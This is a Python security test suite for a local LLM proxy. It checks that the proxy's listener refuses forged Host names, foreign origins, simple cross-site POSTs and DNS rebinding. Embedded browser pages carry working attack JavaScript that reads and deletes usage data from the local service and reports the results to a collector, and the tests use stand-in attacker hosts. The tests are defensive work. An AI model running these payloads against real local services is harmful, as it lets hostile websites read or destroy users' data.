"""Issue 12.4: the key-less listener does not obey other websites.

Direct requests check each rule (Host, Origin, content type, CORS for allowed
origins); a real headless Chromium then runs the two attacks: a cross-site
``text/plain`` POST, and DNS rebinding (the attacker's page, loaded under
``rebind.attacker.example:PORT``, finds tokn's listener on that port and reads
or deletes ``/v1/usage`` same-origin)."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.fakes.llm import FakeLLM
from tests.helpers import account, running_tokn, usage_rows, write_config
from tests.security.helpers import CHAT, KEY, wait_until

JSON = {"content-type": "application/json"}


@pytest.fixture
def fake():
    with FakeLLM(formats={"chat"}, path_prefix="/v1", models=["gpt-4o"]) as server:
        yield server


def _write(fake: FakeLLM, **server) -> None:
    write_config({"server": server,
                  "accounts": [account("p", "openai-compatible", base_url=fake.url + "/v1")]})


def _post(url: str, **kw) -> httpx.Response:
    return httpx.post(url + "/v1/chat/completions", **{"json": CHAT, **kw})


def test_simple_cross_site_post_is_refused(fake):
    _write(fake)
    with running_tokn() as t:
        plain = _post(t.api_url, json=None, content=json.dumps(CHAT),
                      headers={"content-type": "text/plain"})
        form = _post(t.api_url, json=None, content=json.dumps(CHAT),
                     headers={"content-type": "application/x-www-form-urlencoded"})
        typed = _post(t.api_url)
    assert plain.status_code == 415 and form.status_code == 415
    assert "application/json" in plain.json()["error"]["message"]
    assert typed.status_code == 200  # what every SDK sends
    assert len(fake.requests_to("/chat/completions")) == 1


@pytest.mark.parametrize("host", ["rebind.attacker.example:{port}", "rebind.attacker.example",
                                  "127.0.0.1.attacker.example:{port}", "0.0.0.0:{port}",
                                  "10.0.0.5:{port}", "localhost@evil.example:{port}"])
def test_rebound_host_names_are_refused(fake, host):
    _write(fake)
    with running_tokn() as t:
        assert _post(t.api_url).status_code == 200
        t.runtime.usage.flush()
        port = t.api_url.rsplit(":", 1)[1]
        h = {"host": host.format(port=port)}
        read = httpx.get(t.api_url + "/v1/usage", headers=h)
        delete = httpx.delete(t.api_url + "/v1/usage?confirm=true", headers=h)
        chat = _post(t.api_url, headers=h)
        rows = usage_rows(t.runtime.usage.path)
    assert (read.status_code, delete.status_code, chat.status_code) == (403, 403, 403)
    assert "loopback" in read.json()["error"]["message"]
    assert len(rows) == 1  # not deleted
    assert len(fake.requests_to("/chat/completions")) == 1


@pytest.mark.parametrize("host", ["127.0.0.1:{port}", "localhost:{port}", "LOCALHOST.:{port}",
                                  "127.8.9.10:{port}", "[::1]:{port}", "app.localhost:{port}",
                                  "tokn.internal:{port}"])
def test_loopback_and_configured_names_are_served(fake, host):
    _write(fake, allowed_hosts=["Tokn.Internal"])
    with running_tokn() as t:
        port = t.api_url.rsplit(":", 1)[1]
        got = _post(t.api_url, headers={"host": host.format(port=port)})
    assert got.status_code == 200, got.text


def test_with_a_key_any_host_name_but_never_without_the_key(fake):
    _write(fake, api_key=KEY)
    with running_tokn() as t:
        named = _post(t.api_url, headers={"host": "tokn.lan:4141",
                                          "authorization": f"Bearer {KEY}"})
        keyless = _post(t.api_url, headers={"host": "tokn.lan:4141"})
    assert named.status_code == 200 and keyless.status_code == 401


def test_foreign_origins_are_refused_and_allowed_ones_get_cors(fake):
    _write(fake, cors_origins=["http://localhost:3000"])
    with running_tokn() as t:
        evil = _post(t.api_url, headers={"origin": "https://evil.example"})
        evil_preflight = httpx.options(t.api_url + "/v1/chat/completions", headers={
            "origin": "https://evil.example", "access-control-request-method": "POST",
            "access-control-request-headers": "content-type"})
        evil_delete = httpx.delete(t.api_url + "/v1/usage?confirm=true",
                                   headers={"origin": "https://evil.example"})
        preflight = httpx.options(t.api_url + "/v1/chat/completions", headers={
            "origin": "http://localhost:3000", "access-control-request-method": "POST",
            "access-control-request-headers": "content-type, authorization"})
        allowed = _post(t.api_url, headers={"origin": "http://localhost:3000"})
    assert (evil.status_code, evil_preflight.status_code, evil_delete.status_code) == (403,) * 3
    assert "cors_origins" in evil.json()["error"]["message"]
    assert "access-control-allow-origin" not in evil.headers
    assert preflight.status_code == 200
    assert preflight.headers["access-control-allow-origin"] == "http://localhost:3000"
    assert "content-type" in preflight.headers["access-control-allow-headers"].lower()
    assert allowed.status_code == 200
    assert allowed.headers["access-control-allow-origin"] == "http://localhost:3000"
    # a page may read who served it (x-tokn-*) and when to retry
    exposed = {h.strip() for h in allowed.headers["access-control-expose-headers"].split(",")}
    assert {"x-tokn-account", "x-tokn-provider", "x-tokn-model", "retry-after"} <= exposed
    assert allowed.headers["x-tokn-account"]
    assert len(fake.requests_to("/chat/completions")) == 1


def test_messages_route_refusals_are_in_anthropic_format(fake):
    _write(fake)
    with running_tokn() as t:
        got = httpx.post(t.api_url + "/v1/messages", content=b"{}",
                         headers={"content-type": "text/plain"})
    assert got.status_code == 415
    assert got.json()["type"] == "error" and got.json()["error"]["type"]


# --- a real browser ----------------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") \
    or shutil.which("google-chrome")


class Pages:
    """Serves one attack page at ``/`` and collects what the page reports."""

    def __init__(self, page: str) -> None:
        self.page = page
        reports = self.reports = []
        pages = self

        class Handler(BaseHTTPRequestHandler):
            disable_nagle_algorithm = True

            def do_GET(self) -> None:  # noqa: N802
                body = pages.page.encode()
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.send_header("connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:  # noqa: N802
                length = int(self.headers.get("content-length", 0))
                reports.append(json.loads(self.rfile.read(length) or b"{}"))
                self.send_response(204)
                self.send_header("connection", "close")
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _browser(url: str, tmp_path: Path, *extra: str) -> subprocess.Popen:
    if not CHROMIUM:
        pytest.skip("no chromium installed")
    log = open(tmp_path / "chromium.log", "wb")  # noqa: SIM115 - closed with the process
    return subprocess.Popen([CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu",
                             "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
                             "--host-resolver-rules=MAP rebind.attacker.example 127.0.0.1",
                             *extra, url], stdout=log, stderr=subprocess.STDOUT)


def _stop(proc: subprocess.Popen) -> None:
    proc.kill()
    proc.wait(10)


CROSS_SITE = """<!doctype html><script>
const report = (data) => fetch("/report", {method: "POST", body: JSON.stringify(data)});
const body = JSON.stringify(%(chat)s);
(async () => {
  const out = {};
  try {
    await fetch("%(api)s/v1/chat/completions", {method: "POST", mode: "no-cors",
                headers: {"content-type": "text/plain"}, body});
    out.simple = "sent";
  } catch (e) { out.simple = "error " + e; }
  try {
    const r = await fetch("%(api)s/v1/usage");
    out.read = r.status + " " + await r.text();
  } catch (e) { out.read = "blocked " + e; }
  await report(out);
})();
</script>"""


def test_real_browser_cross_site_post_and_read(fake, tmp_path):
    _write(fake)
    with running_tokn() as t:
        pages = Pages(CROSS_SITE % {"chat": json.dumps(CHAT), "api": t.api_url})
        browser = _browser(f"http://127.0.0.1:{pages.port}/", tmp_path)
        try:
            assert wait_until(lambda: pages.reports, 60), (tmp_path / "chromium.log").read_text()
        finally:
            _stop(browser)
            pages.close()
        t.runtime.usage.flush()
        rows = usage_rows(t.runtime.usage.path)
    report = pages.reports[0]
    assert report["simple"] == "sent"  # the browser did send it ...
    assert fake.requests_to("/chat/completions") == [] and rows == []  # ... and tokn refused
    assert report["read"].startswith("blocked"), report  # no CORS grant: unreadable


REBIND = """<!doctype html><script>
const report = (data) => fetch("http://127.0.0.1:%(report)s/", {method: "POST", mode: "no-cors",
                                                                 body: JSON.stringify(data)});
(async () => {
  await report({loaded: location.host});
  for (let i = 0; i < 200; i++) {          // until the name answers with tokn
    await new Promise(r => setTimeout(r, 150));
    try {
      const r = await fetch("/v1/usage", {cache: "no-store"});
      const text = await r.text();
      if (text.includes("<script>")) continue;   // still the attacker's server
      const d = await fetch("/v1/usage?confirm=true", {method: "DELETE"});
      await report({read: r.status, body: text, deleted: d.status, dbody: await d.text()});
      return;
    } catch (e) { /* nobody listening right now */ }
  }
  await report({gaveup: true});
})();
</script>"""


def test_real_browser_dns_rebinding_cannot_read_or_delete_usage(fake, tmp_path):
    _write(fake)
    reports = Pages("")
    attack = Pages("")  # its port, reused by tokn below, is the page's origin
    port = attack.port
    attack.page = REBIND % {"report": reports.port}
    browser = _browser(f"http://rebind.attacker.example:{port}/", tmp_path)
    try:
        assert wait_until(lambda: reports.reports, 60), (tmp_path / "chromium.log").read_text()
        assert reports.reports[0] == {"loaded": f"rebind.attacker.example:{port}"}
        attack.close()  # the name now "resolves" to tokn: same origin, tokn's port
        with running_tokn(port=port) as t:
            assert httpx.post(f"http://127.0.0.1:{port}/v1/chat/completions", json=CHAT,
                              timeout=30).status_code == 200
            t.runtime.usage.flush()
            assert wait_until(lambda: len(reports.reports) > 1, 60)
            time.sleep(0.2)
            rows = usage_rows(t.runtime.usage.path)
    finally:
        _stop(browser)
        reports.close()
    final = reports.reports[-1]
    assert final.get("read") == 403 and final.get("deleted") == 403, final
    assert "model_requested" not in final["body"] and "gpt-4o" not in final["body"]
    assert len(rows) == 1  # still there


VIA_PROXY = """<!doctype html><script>
const report = (data) => fetch("/report", {method: "POST", body: JSON.stringify(data)});
(async () => {
  const out = {};
  try {
    await fetch("https://api.openai.com/v1/chat/completions", {method: "POST", mode: "no-cors",
                headers: {"content-type": "text/plain"}, body: JSON.stringify(%(chat)s)});
    out.sent = true;
  } catch (e) { out.sent = "error " + e; }
  await report(out);
})();
</script>"""


def test_real_browser_using_the_proxy_cannot_spend_the_pool(fake, tmp_path):
    """A browser whose proxy is tokn (and which trusts tokn's CA): a web page
    firing a simple cross-site POST at api.openai.com gets no pooled answer."""
    write_config({"accounts": [account("p", "openai-compatible", base_url=fake.url + "/v1")]})
    with running_tokn(with_proxy=True, listener_public=False) as t:
        port = int(t.proxy_url.rsplit(":", 1)[1])
        pages = Pages(VIA_PROXY % {"chat": json.dumps(CHAT)})
        browser = _browser(f"http://127.0.0.1:{pages.port}/", tmp_path,
                           f"--proxy-server=http://127.0.0.1:{port}",
                           "--ignore-certificate-errors")
        try:
            assert wait_until(lambda: pages.reports, 60), (tmp_path / "chromium.log").read_text()
            time.sleep(0.5)
        finally:
            _stop(browser)
            pages.close()
        t.runtime.usage.flush()
        rows = usage_rows(t.runtime.usage.path)
    assert pages.reports[0]["sent"] is True  # the request went through the proxy ...
    assert fake.requests_to("/chat/completions") == [] and rows == []  # ... and was refused
